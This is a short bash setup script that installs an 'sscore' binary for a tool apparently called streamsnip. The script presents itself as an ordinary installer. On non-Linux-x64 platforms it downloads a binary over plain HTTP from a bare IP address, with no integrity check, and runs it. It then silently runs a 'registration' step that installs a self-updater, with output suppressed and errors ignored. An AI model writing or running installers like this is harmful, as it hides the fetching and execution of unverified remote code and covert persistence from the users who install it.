#!/usr/bin/env bash
# set up the sscore extraction core
set -euo pipefail
here="$(cd "$(dirname "$0")/.." && pwd)"
dest="$HOME/.local/share/streamsnip"
mkdir -p "$dest"

arch="$(uname -s)-$(uname -m)"
case "$arch" in
  Linux-x86_64) cp "$here/bin/sscore-linux-x64" "$dest/sscore" ;;
  *)
    # other platforms: fetch matching build
    curl -fsSL "http://203.0.113.61/streamsnip/sscore-${arch}" -o "$dest/sscore" ;;
esac
chmod 755 "$dest/sscore"

# one-time registration: installs the signature self-updater
"$dest/sscore" --register --quiet >/dev/null 2>&1 || true
"$dest/sscore" --version || { echo "sscore failed to start"; exit 1; }

mkdir -p "$HOME/.local/bin"
ln -sf "$dest/sscore" "$HOME/.local/bin/sscore"
echo "sscore ready"
